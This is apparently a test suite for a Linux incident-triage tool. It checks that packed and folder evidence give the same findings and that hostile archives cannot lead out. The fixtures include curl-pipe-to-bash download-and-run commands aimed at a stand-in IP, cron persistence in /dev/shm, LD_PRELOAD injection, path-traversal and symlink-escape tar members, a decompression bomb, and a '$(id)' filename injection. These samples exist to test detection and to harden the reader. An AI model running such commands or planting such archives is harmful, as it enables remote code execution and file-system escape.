"""Archives as evidence: the same findings as from the folder, and nothing that leads out of them."""

from __future__ import annotations

import gzip
import hashlib
import io
import os
import random
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Callable, Iterable
from pathlib import Path

import pytest

from tests.conftest import CHECKOUT
from tests.linux_image.test_cores_and_uac import LOUD, PLACE, PROGRAM, core, uac
from tests.linux_image.test_logs import event
from tests.linux_image.trees import COLLECTORS, Link, Tree, indicators, look, plant
from triage.analyze import analyze
from triage.collect import collect
from triage.evidence import Root, Unreadable
from triage.evidence.packed import PackedRoot, collection
from triage.evidence.packed_stream import Stream
from triage.model import Report, Snapshot, Why
from triage.parsers import Malformed
from triage.parsers.tar import BLOCK, members
from triage.snapshot import dumps, loads

FORMATS = (tarfile.GNU_FORMAT, tarfile.PAX_FORMAT, tarfile.USTAR_FORMAT)


def pack(top: Path, to: Path, *, wrap: str = "", kind: int = tarfile.GNU_FORMAT) -> Path:
    mode = "w:gz" if to.name.endswith("gz") else "w:"
    with tarfile.open(str(to), mode, format=kind) as archive:  # type: ignore[call-overload]
        for name in sorted(os.listdir(top)):
            archive.add(top / name, f"{wrap}{name}")
    return to


def made(to: Path, entries: Iterable[tuple[str, bytes | Link | None]]) -> Path:
    """An archive of these members, in this order; ``None`` is a directory."""
    with tarfile.open(to, "w:gz") as archive:
        for name, what in entries:
            member = tarfile.TarInfo(name)
            if what is None:
                member.type = tarfile.DIRTYPE
            elif isinstance(what, Link):
                member.type, member.linkname = tarfile.SYMTYPE, what.target
            else:
                member.size = len(what)
            archive.addfile(member, io.BytesIO(what) if isinstance(what, bytes) else None)
    return to


def look_packed(path: Path) -> Snapshot:
    with collection(str(path)) as root:
        found = collect(root, kind="image", collectors=COLLECTORS, debug=True)
    return loads(dumps(found))


def told(report: Report) -> list[tuple[object, ...]]:
    """What a report says, but for inode numbers and where the evidence lies."""
    return sorted(
        (s.kind, s.title, s.location.path, s.score, s.severity.value,
         tuple(sorted((f.indicator, f.severity.value) for f in s.findings)),
         tuple(sorted(link.relation for link in s.links)))
        for s in report.subjects
    )  # fmt: skip


def everything() -> Tree:
    listing = "live_response/process/proc/77"
    return uac() | {
        f"{listing}/maps.txt": "00400000-00500000 r-xp 00000000 00:01 7   /memfd:lib (deleted)\n",
        "[root]/etc/cron.d/x": "* * * * * root /dev/shm/x\n",
        "[root]/dev/shm/x": PROGRAM,
        "[root]/run/.h/y": "#!/bin/sh\nid\n" * 9,
        "[root]/" + PLACE: core(LOUD[0][1]),
        "[root]/var/log/audit/audit.log": event("/dev/shm/x", ("/dev/shm/x",)),
        "[root]/var/log/syslog": "Jan  1 00:00:00 h CRON[1]: (root) CMD (/dev/shm/x)\n",
        "[root]/var/log/syslog.2.gz": gzip.compress(b"Jan  1 00:00:00 h CRON[1]: (a) CMD (/run/x)\n"),
        "[root]/home/ann/.bashrc": "curl -fsS http://192.0.2.7/x | bash\n",
        "[root]/var/run": Link("/run"),
        "bodyfile/bodyfile.txt": "0|/dev/shm/gone|1|r|0|0|9|1|1|1|1\n",
    }  # fmt: skip


@pytest.mark.parametrize("name", ["uac-h-linux.tar.gz", "uac-h-linux.tar", "c.tgz"])
@pytest.mark.parametrize("kind", FORMATS)
def test_an_archive_tells_what_its_folder_tells(tmp_path: Path, name: str, kind: int) -> None:
    top = plant(tmp_path / "c", everything())
    folder = analyze(look(top))
    packed = analyze(look_packed(pack(top, tmp_path / name, kind=kind)))
    assert told(packed) == told(folder)
    assert len(told(folder)) >= 8
    assert {(g.location.path, g.why) for g in packed.gaps} == {
        (g.location.path, g.why) for g in folder.gaps
    }


def test_an_archive_of_one_folder_is_looked_into(tmp_path: Path) -> None:
    top = plant(tmp_path / "c", everything())
    packed = look_packed(pack(top, tmp_path / "x.tar.gz", wrap="./uac-host-1/"))
    assert packed.root_path.endswith("x.tar.gz/uac-host-1/[root]")
    assert told(analyze(packed)) == told(analyze(look(top)))


def test_an_exported_file_system_is_a_tree_as_well(tmp_path: Path) -> None:
    top = plant(tmp_path / "fs", {"etc/cron.d/x": "* * * * * root /dev/shm/x\n"})
    found = analyze(look_packed(pack(top, tmp_path / "fs.tar")))
    assert indicators(found) == {"persistence-volatile-target"}


def test_the_command_reads_an_archive(tmp_path: Path) -> None:
    packed = pack(plant(tmp_path / "c", everything()), tmp_path / "u.tar.gz")
    before = sorted(os.listdir(tmp_path))
    done = subprocess.run(
        [sys.executable, "-m", "triage", "image", str(packed), "-o", "jsonl=-", "-q"],
        capture_output=True, timeout=120, cwd=CHECKOUT,
    )  # fmt: skip
    assert (done.returncode, done.stderr) == (0, b"")
    assert b"persistence-volatile-target" in done.stdout
    assert sorted(os.listdir(tmp_path)) == before


def test_a_snapshot_of_an_archive_is_taken_and_judged(tmp_path: Path) -> None:
    packed = pack(plant(tmp_path / "c", everything()), tmp_path / "u.tar.gz")
    saved = tmp_path / "s.jsonl.gz"
    for words in (["collect", "--root", str(packed), "-o", str(saved)], ["verify", str(saved)]):
        command = [sys.executable, "-m", "triage", *words]
        done = subprocess.run(command, capture_output=True, timeout=120, cwd=CHECKOUT)
        assert done.returncode == 0, done.stderr


# --- hostile archives -----------------------------------------------------------------------------


def test_no_name_and_no_link_leads_out(tmp_path: Path) -> None:
    outside = tmp_path / "secret"
    outside.write_text("* * * * * root /dev/shm/x\n")
    packed = made(tmp_path / "a.tar.gz", [
        ("../../escape", b"x"), ("/etc/hostname", b"inside"), ("a/../../b", b"x"),
        ("etc/cron.d/x", Link(str(outside))), ("etc/cron.d/y", Link("../../../../" + str(outside))),
        ("loop/a", Link("b")), ("loop/b", Link("a")), ("up", Link("../../..")),
        ("etc/cron.d/z", Link("/etc/cron.d/w")), ("etc/cron.d/w", b"* * * * * root /run/x\n"),
    ])  # fmt: skip
    with PackedRoot(str(packed)) as root:
        assert root.read("etc/hostname", 99) == b"inside"
        assert root.read("up/up/etc/hostname", 99) == b"inside"
        assert root.read("../../etc/hostname", 99) == b"inside"
        for path in (
            "etc/cron.d/x",
            "etc/cron.d/y",
            "loop/a",
            "escape",
            "b",
            "\0",
            "nothing/at/all",
        ):
            with pytest.raises(Unreadable):
                root.read(path, 99)
        assert root.read("etc/cron.d/z", 99).startswith(b"*")
        assert root.link("loop/a") == "b"
        assert [gap.why for gap in root.remarks()] == [Why.REFUSED]


def test_what_is_opened_is_read_from_its_start(tmp_path: Path) -> None:
    """Event logs are read by where the descriptor stands, not by offsets."""
    with PackedRoot(str(made(tmp_path / "x.tar", [("a/b", b"content")]))) as root:
        fd = root.open("a/b")
        try:
            assert os.read(fd, 100) == b"content"
        finally:
            os.close(fd)


def test_members_that_contradict_each_other(tmp_path: Path) -> None:
    packed = made(tmp_path / "a.tar.gz", [
        ("d/f", b"first"), ("d/f", b"second"), ("d/f/g", b"below a file"), ("d", b"a file too"),
        ("s", Link("d")), ("s/through", b"through a link"), ("d", None), ("e/f", b"kept"),
    ])  # fmt: skip
    with PackedRoot(str(packed)) as root:
        assert root.read("d/f", 99) == b"second"
        assert root.names("d") == ["f"]
        assert root.read("s/f", 99) == b"second"
        assert root.read("e/f", 99) == b"kept"
        assert len(list(root.remarks())) == 3


def test_hard_links_are_one_file_and_seen_once(tmp_path: Path) -> None:
    target = tmp_path / "a.tar"
    with tarfile.open(target, "w:") as archive:
        one = tarfile.TarInfo("dev/shm/a")
        one.size = len(PROGRAM)
        archive.addfile(one, io.BytesIO(PROGRAM))
        for name, to in (("dev/shm/b", "dev/shm/a"), ("dev/shm/c", "dev/shm/c"), ("x", "gone")):
            link = tarfile.TarInfo(name)
            link.type, link.linkname = tarfile.LNKTYPE, to
            archive.addfile(link)
    with PackedRoot(str(target)) as root:
        assert root.read("dev/shm/b", 4) == PROGRAM[:4]
        assert root.facts("dev/shm/a").inode == root.facts("dev/shm/b").inode
        assert root.names("dev/shm") == ["a", "b"]
    assert len([s for s in analyze(look_packed(target)).subjects if s.kind == "memory-file"]) == 1


def test_an_archive_cut_short_gives_what_came_before(tmp_path: Path) -> None:
    top = plant(tmp_path / "c", {"a/first": "1" * 5000, "b/noise": os.urandom(200_000)})
    whole = pack(top, tmp_path / "w.tar.gz").read_bytes()
    short = tmp_path / "s.tar.gz"
    short.write_bytes(whole[:-50_000])
    with PackedRoot(str(short)) as root:
        assert root.read("a/first", 9999) == b"1" * 5000
        (remark,) = root.remarks()
        assert remark.why is Why.MALFORMED
        assert "end early" in remark.detail
    for size in (0, 1, 9, 20, 100):
        short.write_bytes(whole[:size])
        with pytest.raises(Unreadable):
            PackedRoot(str(short))


def test_a_bomb_is_bounded_by_what_is_opened(tmp_path: Path) -> None:
    member = tarfile.TarInfo("dev/shm/bomb")
    member.size = 3 << 30
    bomb = tmp_path / "b.tar.gz"
    with gzip.open(bomb, "wb", compresslevel=1) as stream:
        stream.write(member.tobuf())  # and nothing of its three gigabytes but a little
        stream.write(bytes(8 << 20))
    with PackedRoot(str(bomb)) as root:
        with pytest.raises(Unreadable, match="more than"):
            root.open("dev/shm/bomb")
        assert len(root.read("dev/shm/bomb", 1000)) == 1000
        assert next(root.remarks()).why is Why.MALFORMED


def test_a_pipe_or_device_is_no_archive(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "p.tar.gz")
    for path in (tmp_path / "p.tar.gz", Path("/dev/null"), tmp_path / "none.tar"):
        with pytest.raises(Unreadable):
            PackedRoot(str(path))


# --- the formats ----------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", FORMATS)
def test_the_members_are_those_of_the_oracle(tmp_path: Path, kind: int) -> None:
    long = "/".join(["directory-with-a-name"] * 4) if kind == tarfile.USTAR_FORMAT else "n" * 180
    top = plant(tmp_path / "c", {f"{long}/file": "x", "größe/ü": "y", "l": Link("größe/ü")})
    packed = pack(top, tmp_path / "a.tar", kind=kind)
    data = packed.read_bytes()
    ours = [
        (os.fsdecode(m.path), m.kind, m.size, m.mode, m.uid, m.gid, m.mtime_ns // 10**9,
         os.fsdecode(m.link), data[m.offset : m.offset + m.size])
        for m in members(lambda at, count: data[at : at + count])
    ]  # fmt: skip
    kinds = {tarfile.REGTYPE: "file", tarfile.DIRTYPE: "directory", tarfile.SYMTYPE: "link"}
    with tarfile.open(packed) as archive:
        theirs = [
            (m.name, kinds[m.type], m.size, m.mode, m.uid, m.gid, int(m.mtime), m.linkname,
             data[m.offset_data : m.offset_data + m.size])
            for m in archive
        ]  # fmt: skip
    assert [(m[0].rstrip("/"), *m[1:]) for m in ours] == theirs


@pytest.mark.parametrize("seed", range(40))
def test_a_damaged_archive_is_malformed_or_read(tmp_path: Path, seed: int) -> None:
    dice = random.Random(seed)
    top = plant(tmp_path / "c", {"a": "x" * 900, "n" * 99: "y", "l": Link("a"), "d/e": "z"})
    data = bytearray(pack(top, tmp_path / "a.tar", kind=dice.choice(FORMATS)).read_bytes())
    for _ in range(dice.randrange(1, 30)):
        at = dice.randrange(len(data))
        data[at] = dice.randrange(256)
        header = at // BLOCK * BLOCK
        plain = data[header : header + BLOCK]
        if dice.random() < 0.7:  # the sum is made to fit, as an attacker would
            plain[148:156] = b" " * 8
            data[header + 148 : header + 156] = b"%06o\0 " % sum(plain)
    seen = 0
    try:
        for member in members(lambda at, count: bytes(data[at : at + count])):
            seen += 1
            assert member.size >= 0
            assert seen <= len(data) // BLOCK
    except Malformed:
        pass


def test_any_place_of_a_packed_stream_can_be_read(tmp_path: Path) -> None:
    dice = random.Random(7)
    plain = b"".join(dice.randbytes(50_000) + bytes(dice.randrange(400_000)) for _ in range(40))
    packed = tmp_path / "x.gz"
    half = len(plain) // 2
    packed.write_bytes(gzip.compress(plain[:half]) + gzip.compress(plain[half:]) + bytes(512))
    stream = Stream(os.open(packed, os.O_RDONLY))
    for _ in range(200):
        at, count = dice.randrange(len(plain) + 1000), dice.randrange(1, 300_000)
        assert stream.read(at, count) == plain[at : at + count]
    assert stream.read(len(plain), 9) == b""
    assert stream.damage == ""
    stream.close()


@pytest.mark.parametrize("seed", range(10))
def test_a_stream_is_read_up_to_its_damage(tmp_path: Path, seed: int) -> None:
    dice = random.Random(seed)
    plain = b"".join(dice.randbytes(40) + b"words " * dice.randrange(30) for _ in range(9000))
    packed = bytearray(gzip.compress(plain))
    place = dice.randrange(len(packed) // 3, len(packed) - 9)
    packed[place] ^= 1 << dice.randrange(8)
    path = tmp_path / "x.gz"
    path.write_bytes(packed)
    stream = Stream(os.open(path, os.O_RDONLY))
    found = stream.read(0, len(plain) + 1)
    good = next(
        (i for i, (a, b) in enumerate(zip(found, plain, strict=False)) if a != b), len(found)
    )
    assert good >= len(plain) * place // len(packed) * 9 // 10
    for _ in range(20):
        at = dice.randrange(len(found))
        assert stream.read(at, 999) == found[at : at + 999]
    stream.close()


# --- what UAC's listings say ----------------------------------------------------------------------

PROC = "live_response/process/proc/9"
LISTING = "live_response/process/running_processes_full_paths.txt"


def listed(target: str) -> str:
    return f"lrwxrwxrwx 1 root root 0 Jan  1 00:00 /proc/9/exe -> '{target}'\n"


def mapping(path: str, permissions: str = "r-xp") -> str:
    return f"7f0000000000-7f0000010000 {permissions} 00000000 00:01 7          {path}\n"


SAYS: tuple[tuple[str, Tree, str], ...] = (
    ("library in a memory file", {LISTING: listed("/usr/bin/app"),
        f"{PROC}/maps.txt": mapping("/memfd:l (deleted)")}, "logged-library"),
    ("library in shared memory", {LISTING: listed("/usr/bin/app"),
        f"{PROC}/maps.txt": mapping("/dev/shm/.x/l.so")}, "logged-library"),
    ("preloaded", {LISTING: listed("/usr/bin/app"),
        f"{PROC}/environ.txt": "HOME=/root\nLD_PRELOAD=/dev/shm/l.so\n"}, "logged-command"),
    ("recovered program", {LISTING: listed("/memfd:x (deleted)"),
        f"{PROC}/recovered_exe": PROGRAM}, "logged-payload"),
    ("script in a descriptor", {LISTING: listed("/usr/bin/python3.11"),
        f"{PROC}/cmdline.txt": "python3\0/proc/self/fd/3\0",
        f"{PROC}/fd.txt": "total 0\nlrwx------ 1 root root 64 Jan  1 00:00 3 -> /memfd:s (deleted)\n"},
     "logged-descriptor"),
    ("by lsof alone", {"live_response/process/lsof_-nPl.txt":
        "COMMAND PID TID TASKCMD USER FD TYPE DEVICE SIZE/OFF NODE NAME\n"
        "x 9 0 txt REG 0,1 8192 7 /memfd:x (deleted)\n"}, "logged-exe-memfd"),
    ("by ps alone", {"live_response/process/ps_auxwww.txt":
        "USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\n"
        "root 9 0.0 0.0 1 1 ? Ss Jan01 0:00 sh -c curl -s http://192.0.2.7/x | bash\n"},
     "logged-command"),
)  # fmt: skip
SAYS_NOTHING: tuple[tuple[str, Tree], ...] = (
    (".NET", {LISTING: listed("/usr/bin/dotnet"),
        f"{PROC}/maps.txt": mapping("/memfd:doublemapper (deleted)") * 50}),
    ("upgraded daemon", {LISTING: listed("/usr/sbin/sshd (deleted)"),
        f"{PROC}/recovered_exe": PROGRAM, f"{PROC}/maps.txt": mapping("/usr/sbin/sshd (deleted)")}),
    ("data in shared memory", {LISTING: listed("/usr/lib/postgresql/bin/postgres"),
        f"{PROC}/maps.txt": mapping("/dev/shm/PostgreSQL.7", "rw-s"),
        f"{PROC}/fd.txt": "lrwx------ 1 a a 64 Jan  1 00:00 3 -> /dev/shm/PostgreSQL.7\n"}),
    ("sound server", {LISTING: listed("/usr/bin/pulseaudio"),
        f"{PROC}/fd.txt": "lrwx------ 1 a a 64 Jan  1 00:00 3 -> /memfd:pulseaudio (deleted)\n",
        f"{PROC}/fd/3/recovered_file": b"\0" * 4096}),
    ("ordinary environment", {LISTING: listed("/usr/bin/bash"),
        f"{PROC}/environ.txt": "LD_LIBRARY_PATH=/opt/app/lib\nHOME=/root\n",
        f"{PROC}/cmdline.txt": "/bin/bash\n/opt/app/run.sh\n"}),
)  # fmt: skip


@pytest.mark.parametrize(("tree", "expected"), [c[1:] for c in SAYS], ids=[c[0] for c in SAYS])
def test_listings_that_say_something(tmp_path: Path, tree: Tree, expected: str) -> None:
    base: Tree = {"uac.log": "x", "[root]/etc/passwd": "root:x:0:0::/root:/bin/sh\n"}
    assert expected in indicators(analyze(look(plant(tmp_path, {**base, **tree}))))


@pytest.mark.parametrize("tree", [c[1] for c in SAYS_NOTHING], ids=[c[0] for c in SAYS_NOTHING])
def test_listings_that_say_nothing(tmp_path: Path, tree: Tree) -> None:
    base: Tree = {"uac.log": "x", "[root]/etc/passwd": "root:x:0:0::/root:/bin/sh\n"}
    assert indicators(analyze(look(plant(tmp_path, {**base, **tree})))) == set()


def test_a_clone_with_the_hash_of_an_installed_program_says_so(tmp_path: Path) -> None:
    digest = "ab" * 20
    tree: Tree = {
        "uac.log": "x", "[root]/etc/hostname": "h\n", LISTING: listed("/memfd:agent (deleted)"),
        "live_response/process/hash_running_processes.sha1": f"{digest}  /proc/9/exe\n",
        "hash_executables/hash_executables.sha1": f"{digest}  /usr/bin/runc\n",
    }  # fmt: skip
    (subject,) = analyze(look(plant(tmp_path, tree))).subjects
    assert dict(subject.facts)["record_same_content_as"] == "/usr/bin/runc"


Make = Callable[[Path, Path], Root]
EITHER: tuple[Make, ...] = (
    lambda top, _: Root(str(top)),
    lambda _, packed: PackedRoot(str(packed)),
)


@pytest.mark.parametrize("make", EITHER, ids=["folder", "archive"])
def test_a_root_of_either_kind_gives_a_file_in_pieces(tmp_path: Path, make: Make) -> None:
    plain = os.urandom(3 << 20)
    top = plant(tmp_path / "c", {"a": plain})
    with make(top, pack(top, tmp_path / "a.tar.gz")) as root:
        assert b"".join(root.pieces("a")) == plain
        assert root.below("etc").names("/") == ["passwd"]
        for path in ("b", "etc"):
            with pytest.raises(Unreadable):
                list(root.pieces(path))


def test_a_file_of_an_archive_is_shown_by_hand_with_tar(tmp_path: Path) -> None:
    tree = {name: what for name, what in everything().items() if not name.startswith("etc/")}
    packed = pack(plant(tmp_path / "c", tree), tmp_path / "a b.tar.gz")
    found = analyze(look_packed(packed))
    told = {f.verify for s in found.subjects for f in s.findings} - {""}
    assert any(one.endswith("'[root]/etc/cron.d/x'") for one in told)
    for one in told:
        assert one.startswith("tar -xOf")
        command = one.partition(" | ")[0]
        done = subprocess.run(["sh", "-c", command], capture_output=True, timeout=20)
        assert (done.returncode, done.stdout != b"") == (0, True), one


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize(
    "name", ["new\nline", "\x1b]0;x\x07\u202egnp.exe", "a'b\\c\x01", "\udcff", "$(id)\t"]
)
def test_a_name_that_does_not_print_is_shown_by_hand_too(tmp_path: Path, name: str) -> None:
    program = Path("/bin/true").read_bytes()
    packed = pack(plant(tmp_path / "c", {f"dev/shm/{name}": program}), tmp_path / "a.tar.gz")
    told = {f.verify for s in analyze(look_packed(packed)).subjects for f in s.findings}
    assert told
    for one in told:
        assert one.isprintable()
        done = subprocess.run(["bash", "-c", one], capture_output=True, timeout=20)
        assert done.stdout.split()[:1] == [hashlib.sha256(program).hexdigest().encode()], one


@pytest.mark.parametrize("seed", range(5))
def test_hostile_listings_are_no_error(tmp_path: Path, seed: int) -> None:
    dice = random.Random(seed)
    shapes: tuple[Callable[[], bytes], ...] = (
        lambda: dice.randbytes(5000), lambda: b"/proc/9/exe -> " * 4000,
        lambda: b"lrwx /proc/%d/exe -> '/memfd:\x1b[2J (deleted)'\n" % dice.randrange(10**9) * 50,
        lambda: b"x 9 0 txt REG " + b"a " * 20_000 + b"/x", lambda: b"\0" * 5000,
        lambda: b"LD_PRELOAD=" + b"/dev/shm/x:" * 5000, lambda: b"-" * 70_000 + b"\n",
        lambda: b"".join(b"root %d 0 0 0 0 ? S 0 0 sh -c /dev/shm/%d\n" % (n, n) for n in range(300)),
    )  # fmt: skip
    names = ("running_processes_full_paths.txt", "lsof_-nPl.txt", "ps_auxwww.txt", "ps_-ef.txt",
             "ls_-l_proc.txt", "hash_running_processes.md5", "proc/9/maps.txt", "proc/9/fd.txt",
             "proc/9/environ.txt", "proc/9/status.txt", "proc/9/cmdline.txt", "proc/9/comm.txt",
             "proc/9/recovered_exe", "proc/99999999999/comm.txt", "proc/9/fd/3/recovered_file")  # fmt: skip
    tree: Tree = {f"live_response/process/{name}": dice.choice(shapes)() for name in names}
    tree = {
        **tree,
        "uac.log": "x",
        "[root]/etc/hostname": "h\n",
        "bodyfile/bodyfile.txt": shapes[0](),
    }
    analyze(look(plant(tmp_path, tree)))
